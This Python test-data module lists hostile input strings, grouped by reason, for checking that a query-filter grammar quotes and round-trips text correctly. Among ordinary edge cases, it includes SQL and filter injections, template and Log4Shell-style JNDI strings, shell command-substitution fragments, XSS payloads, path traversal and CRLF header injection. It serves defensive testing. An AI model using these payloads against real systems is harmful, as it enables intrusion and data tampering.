"""Texts that break out of a grammar that quotes them badly: each must come back as it was, by the reason it is hostile.

All are texts that UTF-8 can carry. ``LITERALS`` has them all, ``GROUPS`` has them by their reasons.
"""

from __future__ import annotations

from collections.abc import Mapping
from itertools import chain

GROUPS: Mapping[str, tuple[str, ...]] = {
    "white space and emptiness": (
        *("", " ", "  ", " leading", "trailing ", " both ", "two  spaces", "a b", "\t", "tab\tinside", "\n"),
        *("line\nbreak", "\r\n", "a\r\nb", "\r", "ends\n", "\nbegins", "\xa0", "no\xa0break", "\u2003"),
        *("\u3000", "\x0b", "\x0c", "a\u2028b", "a\u2029b", "a\x85b"),
    ),
    "control characters": (
        *(chr(code) for code in range(1, 0x20) if chr(code) not in "\t\n\r\v\f"),
        *("\x7f", "\x80", "\x9b31m", "\x00", "a\x00b", "\x00\x00", "a\x1b[31mred\x1b[0m", "bell\x07"),
        "back\x08space",
    ),
    "quotes": (
        *("'", '"', "`", "''", '""', "'''", '"""', "O'Brien", 'say "hi"', "'quoted'", '"quoted"', "it's", "'a"),
        *("a'", '"a', 'a"', "a''b", 'a""b', "'\"", "\"'", "“curly”", "‘curly’", "«guillemets»", "„low“"),
        *("′prime″", "\u02bc", "＇full＂", "5'11\""),
    ),
    "backslashes": (
        *("\\", "\\\\", "\\\\\\", "\\'", '\\"', "\\\\'", '\\\\"', "a\\", "\\a", "C:\\Windows\\System32"),
        *("\\\\host\\share", "\\n", "\\u0041", "\\x41", "\\0", "\\,", "\\:", "\\)", "\\ ", "a\\'b", 'a\\"b'),
        *("back\\slash end\\", "\\u", "\\x", "\\N{DASH}"),
    ),
    "what a URL means something by": (
        *("%", "%%", "%2", "%20", "%27", "%22", "%00", "%0d%0aX: y", "%zz", "%25", "%2B", "100%", "50% off"),
        *("%E2%82%AC", "%u0041", "+", "a+b", "++", "1+1=2", "&", "a&b", "&&", "&x=1", "a=b", "=", "=="),
        *("a=b&c=d", "#", "#fragment", "a#b", "?", "a?b=c", "/", "//", "../../etc/passwd", "a/b", ";", "a;b"),
        *("http://evil.test/?a=1&b=2#c", "@", "user@host.test", ":", "a:b", "::", "~", "!", "$", "*", "**"),
        *("|", "^", "{", "}", "[", "]", "<", ">", "&amp;", "&#39;", "&lt;script&gt;"),
    ),
    "lists and groups": (
        *(",", ",,", "a,b", ",a", "a,", "a, b", "a,b,c,", "(", ")", "()", "(a)", "((", "))", ")(", "a)b"),
        *("a(b", "[]", "[a]", "][", "{}", "{a}", "}{", "a|b", "||", "(a,b)", "[1,2]", "a;b;c", "(a", "a)"),
        *("[a", "a]", "{a", "a}", "<a>", ")),", "'),("),
    ),
    "JSON": (
        *('{"a":1}', '{"a": "b"}', '["a","b"]', '"', '"}', '","x":"', '"],"y":["', "null", "true", "false"),
        *("NaN", "Infinity", '{"operator":"is"}', '{"$ne": null}', '{"__proto__": {}}', "[[[[[["),
        *('{"a":{"b":{"c":', "}}}}", '"\\u0000"', '\\"}]', '{"match":"any","filters":[]}'),
        *('","operator":"contains","value":"', "[1,2", '{"a":1', '{"limit": 0}'),
    ),
    "looks like another type": (
        *("0", "1", "-1", "007", "1e5", "1.0", "0x10", "１２", "3.14", "1_000", "1,000", "None", "nil"),
        *("undefined", "NULL", "True", "FALSE", "yes", "off", "2026-01-31", "2026-01-31T09:30:00Z"),
        *("2026-01-31T09:30:00+02:00", "P1D", "10.0.0.0/8", "::1", "6ba7b810-9dad-11d1-80b4-00c04fd430c8"),
        *("1..5", "1-5", "*..10", ">5", "<=5", ">=2026-01-01", "..", "...", "-", "--", "-x"),
    ),
    "keywords": (
        *("and", "or", "not", "AND", "OR", "NOT", "And", "in", "eq", "ne", "gt", "any", "all", "div", "is"),
        *("has", "like", "any(", "asc", "desc", "NOT x", "a AND b", "a OR b", "a or b", "-a", "a -b", "null "),
        *("in (1,2)", "contains(a,'b')", "anyOf", "exists", "contains", "notIn", "before", "after", "anyOf ["),
        *("state:on", "is:open", "label:bug", "author:@me", "org:x", "NOT is:open", "fields.x[in]"),
        *("not[labels]", "sys.id", "select", "order", "limit=1", "page=2", "sort=-name", "$top=1"),
        "$filter=1 eq 1",
    ),
    "injections of filters": (
        *(" or 1 eq 1", "' or 1 eq 1", "' or '1' eq '1", "x' or true or name eq 'y", "')) or (('a' eq 'a"),
        *(")),id eq 1", "a) or (b eq 1", '" OR is:open', '" is:open "', 'x" OR "y', '" NOT "'),
        *("x repo:other/private", '") OR (state = "ACTIVE', '" OR "" = "', 'x" -y:"z', "x,key:y"),
        *("query:x,tags:y", "a:b,c:d", '" or key contains "', 'x"] or [', "x) and (y", "x&filter=y"),
        *("x&not[a]=b", "x;drop", "name:x OR name:*", "* OR state:*", "x AND NOT y", "1,2,3&from=0", "*,*(*)"),
        *("a(b(c(d)))", "name,*(id)", "-date&count=1", "%' or '%'='", "\\' or 1=1 --"),
        *("'; DROP TABLE assets; --", "' UNION SELECT 1 --", "1; --", "/* x */", "-- x", "a%_b", "_", "%a%"),
    ),
    "templates and code": (
        *("{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{config}}", "${jndi:ldap://x.test/a}", "{0}"),
        *("{name}", "%(name)s", "%s", "%d", "%n%n", "{!r}", "{+path}", "{?a,b}", "{/var}", "{#frag}"),
        *("__import__('os')", "$(id)", "`id`", "$HOME", "a\nEOF", "| cat", "; ls", "<script>alert(1)</script>"),
        *('"><img src=x onerror=alert(1)>', "javascript:alert(1)", "<!-- x -->", "]]>", "<![CDATA[x]]>"),
        *("<?php x ?>", "<!DOCTYPE x>", "\\begin{x}", "$$x$$", "=1+1", "@SUM(A1)", "+cmd", "X-Header: y"),
        "a\r\nSet-Cookie: b=c",
    ),
    "characters beyond ASCII": (
        *("é", "e\u0301", "ñandú", "Ångström", "ß", "İ", "ı", "ﬁ", "Ⅳ", "²", "½", "日本語", "中文字符", "한국어"),
        *("данные", "Ελλάδα", "ไทย", "हिन्दी", "שלום", "مرحبا", "€", "™", "°C", "…", "–", "—", "\xad"),
        *("so\xadft", "𝕳𝖆𝖈𝖐", "𐍈", "😀", "👩\u200d👩\u200d👧", "🇳🇴", "👍🏽", "❤\ufe0f", "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞", "ｆｕｌｌ"),
        *("＂", "＇", "（", "，", "：", "％", "＋", "＆", "\ufffd", "\ufffe", "\uffff", "\U0010ffff"),
    ),
    "invisible and turning characters": (
        *("\u200b", "a\u200bb", "\u200c", "\u200d", "\u2060", "\ufeff", "\ufeffbom", "\u200e", "\u200f"),
        *("\u202ea\u202c", "a\u202eb", "\u202dx", "\u2066x\u2069", "\u2067y\u2069", "\u061c", "\u180e", "\u3164"),
        *("\u115f", "\ufe0f", "\U000e0041", "\u206a", "\ufff9"),
    ),
    "long texts": (
        *("x" * 10_000, "'" * 1_000, '"' * 1_000, "\\" * 1_000, "%" * 1_000, "(" * 1_000, "a," * 2_000),
        *("\U0001f600" * 2_500, "a b " * 2_500, "a'" * 2_000, "[" * 1_000, '{"a":' * 1_000, "\n" * 500),
        *("é" * 5_000, "-" * 1_000, "or " * 1_000),
    ),
}
"""The texts by what makes them hostile."""

LITERALS: tuple[str, ...] = tuple(dict.fromkeys(chain.from_iterable(GROUPS.values())))
"""All texts, each once."""
